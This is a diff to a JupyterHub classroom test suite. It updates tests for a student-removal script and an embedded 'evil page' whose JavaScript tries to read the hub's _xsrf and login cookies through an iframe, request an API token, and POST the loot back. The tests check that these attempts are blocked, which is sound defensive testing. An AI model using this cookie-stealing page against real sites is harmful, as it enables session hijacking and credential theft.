@@ -486,7 +486,8 @@ def test_students_sh_remove_leaves_nothing_behind(room):
     import pwd
 
     script = ROOT / "docs" / "teaching" / "room" / "students.sh"
-    env = {**os.environ, "INTERPLAB_ROOM_GROUP": "ilab-room-test-rm", "INTERPLAB_ROOM_STATE": "/nonexistent"}
+    env = {**os.environ, "INTERPLAB_ROOM_GROUP": "ilab-room-test-rm", "INTERPLAB_ROOM_TEACHERS": "ilab-room-test-rm",
+           "INTERPLAB_ROOM_STATE": "/nonexistent"}
     name = "ilab-leaver"
 
     def sh(*args):
@@ -505,7 +506,7 @@ def test_students_sh_remove_leaves_nothing_behind(room):
              f"mkdir -p /tmp/torchinductor_{name}/x && echo 1 > /tmp/torchinductor_{name}/x/y; "
              f"for d in {' '.join(dirs)}; do echo 1 > $d/{name}-left 2>/dev/null && echo $d; done; "
              "ipcmk -M 4096 >/dev/null && ipcmk -S 1 >/dev/null && ipcmk -Q >/dev/null && echo ipc; "
-             "(echo '0 0 1 1 *' true | crontab - 2>/dev/null); (sleep 300 &)"],
+             "(echo '0 0 1 1 *' true | crontab - 2>/dev/null); (sleep 300 >/dev/null 2>&1 &)"],
             capture_output=True, text=True, timeout=30, cwd="/")
         wrote = made.stdout.split()
         assert "ipc" in wrote and "/tmp" in wrote and "/dev/shm" in wrote, made
@@ -560,7 +561,8 @@ def test_students_sh_remove_deletes_the_user_from_a_stopped_hubs_database(tmp_pa
     (tmp_path / "room-accounts.url").write_text(f"http://127.0.0.1:{roomhub.free_port()}/hub/api\n")  # nothing there
     script = ROOT / "docs" / "teaching" / "room" / "students.sh"
     subprocess.run(["bash", str(script), "remove", "ilab-gone"], check=True, capture_output=True, timeout=60,
-                   env={**os.environ, "INTERPLAB_ROOM_STATE": str(tmp_path), "INTERPLAB_ROOM_GROUP": "ilab-no-group"})
+                   env={**os.environ, "INTERPLAB_ROOM_STATE": str(tmp_path), "INTERPLAB_ROOM_GROUP": "ilab-no-group",
+                        "INTERPLAB_ROOM_TEACHERS": "ilab-no-group"})
     session = orm.new_session_factory(f"sqlite:///{db}")()
     assert [u.name for u in session.query(orm.User)] == ["ilab-stays"]
     assert [t.user.name for t in session.query(orm.APIToken)] == ["ilab-stays"]
@@ -655,13 +657,14 @@ def _load_jupyter_server_extension(app):
 '''
 
 # the page's script: what a visitor's browser lets it read or do on the hub, reported to the page's own origin
-EVIL_PAGE = r'''<!doctype html><title>notes</title><script>
+EVIL_PAGE = r'''<!doctype html><title>notes</title><body><script>
 (async () => {
   const hub = HUB, visitor = VISITOR, got = {cookie: document.cookie};
   const frame = document.createElement("iframe");
+  const loaded = new Promise((ok) => { frame.onload = () => ok("loaded"); setTimeout(() => ok("timeout"), 10000); });
   frame.src = hub + "/hub/static/favicon.ico";
   document.body.appendChild(frame);
-  await new Promise((ok) => { frame.onload = ok; setTimeout(ok, 5000); });
+  got.frame = await loaded;
   try { got.framed = frame.contentWindow.document.cookie; } catch (e) { got.framed = "blocked: " + e.name; }
   const xsrf = ((got.framed || "").match(/_xsrf=([^;]+)/) || [])[1] || "";
   try {
@@ -671,7 +674,7 @@ EVIL_PAGE = r'''<!doctype html><title>notes</title><script>
   } catch (e) { got.token = "blocked: " + e.name; }
   await fetch(location.pathname + "/loot", {method: "POST", body: JSON.stringify(got)}).catch(() => {});
   window.__got = got;
-})();
+})().catch((e) => { window.__failed = String(e); throw e; });
 </script>'''
 
 
@@ -742,19 +745,25 @@ def test_a_students_server_extension_is_not_loaded_and_its_link_steals_no_token(
                 page.fill("input[name=password]", r.passwords[name])
                 page.click("input[type=submit], button[type=submit]")
                 page.wait_for_url("**/hub/home", timeout=60000)
-                assert any(c["name"] == "_xsrf" for c in context.cookies(hub.url)), context.cookies()
+                # what there is to steal: the hub's login and its _xsrf cookie (path /hub/, readable by scripts)
+                hub_cookies = {c["name"]: c["value"] for c in context.cookies(f"{hub.url}/hub/")}
+                assert {"_xsrf", "jupyterhub-hub-login"} <= hub_cookies.keys(), hub_cookies.keys()
                 # the real link: the extension is not there
                 response = page.goto(evil)
                 assert response.status == 404, (name, response.status, page.content()[:500])
                 # the student's origin running the page anyway (Playwright answers in the server's place)
-                page.route(evil, lambda route, html=page_html: route.fulfill(status=200, content_type="text/html",
-                                                                             body=html))
+                page.route(evil, (lambda html: lambda route: route.fulfill(status=200, content_type="text/html",
+                                                                            body=html))(page_html))
                 page.route(f"{evil}/loot", lambda route: route.fulfill(status=204))
+                errors = []
+                page.on("pageerror", lambda e, errors=errors: errors.append(str(e)))
                 page.goto(evil)
-                page.wait_for_function("() => !!window.__got", timeout=30000)
+                page.wait_for_function("() => !!window.__got || !!window.__failed", timeout=30000)
+                assert not errors, errors
                 got = page.evaluate("() => window.__got")
-                assert "_xsrf" not in got["cookie"] and "jupyterhub" not in got["cookie"], got
-                assert got["framed"].startswith("blocked: SecurityError"), got
+                # (the student's server sets an _xsrf cookie of its own on its origin: not the hub's)
+                assert hub_cookies["_xsrf"] not in got["cookie"] and "jupyterhub-hub-login" not in got["cookie"], got
+                assert hub_cookies["_xsrf"] not in got["framed"], got  # the framed hub file's cookies
                 assert got["token"].startswith(("403", "blocked")), got
                 print(f"\nroom: a page of {attacker}'s origin opened by {name}: {got}")
             finally:
@@ -786,6 +795,7 @@ def test_a_removed_and_re_added_student_is_new_to_the_hub(room):
     def password(out):
         return out.splitlines()[1].split(",")[1]
 
+    r.write_hosts([*r.names(), name])  # its name, NAME.HOST, as the room's wildcard DNS gives it
     try:
         r.passwords[name] = password(sh("add", name))
         old = hub.login(name)
@@ -814,6 +824,7 @@ def test_a_removed_and_re_added_student_is_new_to_the_hub(room):
         with contextlib.suppress(Exception):
             sh("remove", name)
         r.passwords.pop(name, None)
+        r.write_hosts(r.names())
     assert os.system(f"id {name} >/dev/null 2>&1") != 0
 
 
